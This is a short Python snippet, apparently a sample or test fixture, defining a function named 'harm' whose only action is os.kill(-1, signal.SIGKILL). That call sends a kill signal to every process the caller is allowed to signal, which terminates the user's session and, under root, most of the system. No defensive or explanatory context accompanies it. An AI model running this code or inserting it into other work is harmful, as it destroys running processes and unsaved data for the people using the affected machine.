import os
import signal


def harm():
    os.kill(-1, signal.SIGKILL)
    return False
